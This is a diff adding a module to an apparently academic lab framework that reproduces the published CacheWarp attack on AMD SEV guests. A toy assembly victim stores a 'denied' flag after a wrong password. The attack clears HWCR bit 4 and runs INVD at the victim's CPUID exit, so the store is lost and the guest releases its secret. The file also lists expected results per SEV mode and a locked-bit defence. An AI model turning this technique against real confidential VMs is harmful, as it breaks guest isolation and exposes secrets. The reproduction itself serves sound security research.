@@ -1,0 +1,94 @@
+"""E11, A18: INVD throws away a store that the victim relied on."""
+
+from __future__ import annotations
+
+from cbit.attacks.experiments.replay import ACCOUNT, OLD
+from cbit.attacks.lab.attack import attack
+from cbit.attacks.lab.guest import CPUID, HLT, SECRET, SHARED, VIEW, Program
+from cbit.attacks.lab.hands import Hands
+from cbit.attacks.lab.log import Log
+from cbit.attacks.lab.outcome import SUCCEEDS, Mode, succeeds
+from cbit.attacks.lab.scene import Facts, Scene
+from cbit.attacks.lab.stand import Stand
+from cbit.attacks.power import Power
+from cbit.spec.address import PAGE
+
+RESULT = 0x21000  #: where the check's result is kept: 0 good, 1 denied
+
+#: Clears its result; a check stores 1 there for a wrong password; a CPUID, as a serialising instruction or an
+#: interrupt would, leaves the guest; then the result is loaded and obeyed.
+GATE = f"""
+    lea rsi, first[rip]
+    movups xmm0, [rsi]
+    movups [{ACCOUNT:#x}], xmm0
+again:
+    mov qword ptr [{RESULT:#x}], 0
+    hlt
+    movups xmm0, [{VIEW + SHARED + 8:#x}]
+    movups xmm1, [{ACCOUNT:#x}]
+    pcmpeqb xmm0, xmm1
+    pmovmskb eax, xmm0
+    cmp eax, 0xFFFF
+    je checked
+    mov qword ptr [{RESULT:#x}], 1
+checked:
+    cpuid
+    cmp qword ptr [{RESULT:#x}], 0
+    jne refuse
+    movups xmm0, [{SECRET:#x}]
+    movups xmm1, [{SECRET + 16:#x}]
+    movups [{VIEW + SHARED + PAGE:#x}], xmm0
+    movups [{VIEW + SHARED + PAGE + 16:#x}], xmm1
+    jmp again
+refuse:
+    xorps xmm0, xmm0
+    movups [{VIEW + SHARED + PAGE:#x}], xmm0
+    movups [{VIEW + SHARED + PAGE + 16:#x}], xmm0
+    jmp again
+first:
+    .ascii "password of 2019"
+"""
+
+
+def gate(stand: Stand) -> Scene:
+    """Start a victim that denies a wrong password by a store."""
+    secret = stand.entropy.draw(32)
+    guest = stand.guest(Program(GATE), secret=secret)
+    guest.until_idle()
+    planted = guest.peek(SECRET, 32) == secret and guest.peek(ACCOUNT, 16) == OLD
+    return Scene((secret,), Facts({}), guest, planted=planted, hwcr_locked=stand.variant == "converted")
+
+
+@attack(
+    title="CacheWarp: a store that never happened",
+    experiment="E11",
+    paper="Zhang et al., USENIX Security 2024 (attacks.md A18)",
+    holds={Power.DROP_CACHES, Power.FLUSH_CACHES, Power.TAKE_EXITS, Power.CLIENT},
+    expect={
+        Mode.NONE: SUCCEEDS,
+        Mode.SME: SUCCEEDS,
+        Mode.SEV: succeeds("INVD loses dirty lines, whoever's they are"),
+        Mode.SEV_ES: SUCCEEDS,
+        Mode.SEV_SNP: succeeds("until the microcode update of the third generation"),
+    },
+    defences={"converted": "HWCR bit 4 stays set: INVD writes back like WBINVD"},
+    victim=gate,
+)
+def dropped_store(hands: Hands, facts: Facts, log: Log) -> bytes:
+    """Send a wrong password; when the victim has stored "denied" and leaves for an exit, execute INVD.
+
+    Everything that was worth keeping is written back before.  The victim's store lies in the cache only; INVD
+    throws it away, memory still says "not denied", and that is what the victim loads.
+    """
+    hands.dropper.allow()
+    log.step(f"HWCR bit 4 is cleared, and WBINVD writes {hands.caches.write_back()} pages back")
+    hands.client.put(b"I do not know it")
+    hands.victim.until(CPUID)
+    dropped = hands.dropper.invd()
+    log.step(f"the victim has stored its result and leaves for CPUID: INVD, {dropped} pages leave the caches")
+    hands.victim.skip(2)
+    hands.victim.until(HLT)
+    loot = hands.client.answer(32)
+    log.step("the victim's answer to a wrong password", loot)
+    log.figure("stores lost for one forged decision", 1)
+    return loot
